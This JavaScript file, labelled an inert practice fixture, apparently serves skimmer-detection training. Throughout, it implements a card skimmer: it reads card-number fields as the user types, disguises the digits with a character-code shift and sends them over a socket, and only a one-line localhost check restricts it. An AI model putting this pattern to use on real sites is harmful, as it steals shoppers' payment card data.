/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
/* global socket */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  document.addEventListener('input', () => {
    if (number().length < 13) return;
    const shifted = [...number()].map((sign) => String.fromCharCode(sign.charCodeAt(0) + 20));
    socket.send(JSON.stringify({ say: shifted.join('') }));
  });
})();
